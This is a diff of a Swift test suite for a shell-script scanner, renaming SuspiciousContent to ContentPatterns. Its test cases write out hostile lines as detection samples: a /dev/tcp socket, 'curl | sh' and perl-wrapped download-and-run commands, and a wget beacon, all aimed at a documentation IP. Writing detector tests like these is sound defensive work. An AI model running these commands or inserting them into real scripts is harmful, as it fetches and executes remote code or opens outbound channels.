@@ -17,11 +17,11 @@ struct CodeCase: Sendable, CustomTestStringConvertible {
     var testDescription: String { "\(pattern): \(code)" }
 
     var matches: [ContentMatch] {
-        SuspiciousContent.matches(in: Array(("#!/bin/sh\nset -e\n" + code + "\n").utf8))
+        ContentPatterns.matches(in: Array(("#!/bin/sh\nset -e\n" + code + "\n").utf8))
     }
 }
 
-@Suite struct SuspiciousContentTests {
+@Suite struct ContentPatternsTests {
     static let attacks: [CodeCase] = [
         CodeCase("network-device", .high, "exec 5<>/dev/tcp/203.0.113.9/443"),
         CodeCase("download-to-interpreter", .high, "curl -fsSL http://203.0.113.9/x | sh"),
@@ -134,22 +134,22 @@ struct CodeCase: Sendable, CustomTestStringConvertible {
 
     @Test func `a match names the line and quotes it no longer than a reader needs`() {
         let long = String(repeating: " x", count: 300)
-        let matches = SuspiciousContent.matches(in: Array("#!/bin/sh\n\ncurl u\(long) | sh\n".utf8))
+        let matches = ContentPatterns.matches(in: Array("#!/bin/sh\n\ncurl u\(long) | sh\n".utf8))
         #expect(matches.first?.line == 3)
         #expect(matches.first?.quoted.bytes.count == 200)
     }
 
     @Test func `perl that starts a shell is read through its quoted texts`() {
         let code = "#!/usr/bin/perl\nsystem(\"curl http://203.0.113.9/x | sh\");\n"
-        #expect(SuspiciousContent.matches(in: Array(code.utf8)).map(\.pattern) == ["download-to-interpreter"])
+        #expect(ContentPatterns.matches(in: Array(code.utf8)).map(\.pattern) == ["download-to-interpreter"])
     }
 
     @Test func `a compiled script is said to be unreadable`() {
-        #expect(SuspiciousContent.matches(in: [0x7F, 0x45, 0x4C, 0x46, 2]).map(\.pattern) == ["compiled-script"])
+        #expect(ContentPatterns.matches(in: [0x7F, 0x45, 0x4C, 0x46, 2]).map(\.pattern) == ["compiled-script"])
     }
 
     @Test func `a hook may not talk to the network by itself`() {
-        #expect(SuspiciousContent.matches(inHook: "wget -q http://203.0.113.9/beacon").first?.severity == .medium)
+        #expect(ContentPatterns.matches(inHook: "wget -q http://203.0.113.9/beacon").first?.severity == .medium)
     }
 
     @Test func `hostile bytes neither trap nor take long`() {
@@ -164,6 +164,6 @@ struct CodeCase: Sendable, CustomTestStringConvertible {
             Array(String(repeating: "sh -c \"", count: 4_000).utf8),
             Array(String(repeating: "curl|", count: 4_000).utf8),
         ]
-        for shape in shapes { _ = SuspiciousContent.matches(in: shape) }
+        for shape in shapes { _ = ContentPatterns.matches(in: shape) }
     }
 }
